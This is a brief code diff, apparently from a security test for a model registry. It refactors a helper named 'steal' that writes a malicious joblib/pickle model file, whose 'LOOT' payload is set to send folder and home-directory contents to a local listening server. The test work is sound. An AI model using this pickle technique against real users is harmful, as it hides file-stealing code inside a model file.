@@ -262,12 +262,12 @@ def steal(version: Version) -> Callable[[], str]:
     places = [str(version.folder), str(home)]
     loot = LOOT.format(places=places, home=home, port=server.getsockname()[1])
 
-    class Dumper:
-        @staticmethod
-        def dump(model: Any, file: Path) -> None:
-            joblib.dump(Evil(pickle.dumps(model), loot), file)
+    def write_model(_: Any, model: Any, folder: Path) -> Path:
+        file = folder / "model.joblib"
+        joblib.dump(Evil(pickle.dumps(model), loot), file)
+        return file
 
-    register.joblib = Dumper  # type: ignore[assignment]
+    register.write_model = write_model
     version.number = str(registered(version.project).version)
     return lambda: (
         b"".join(received).decode()
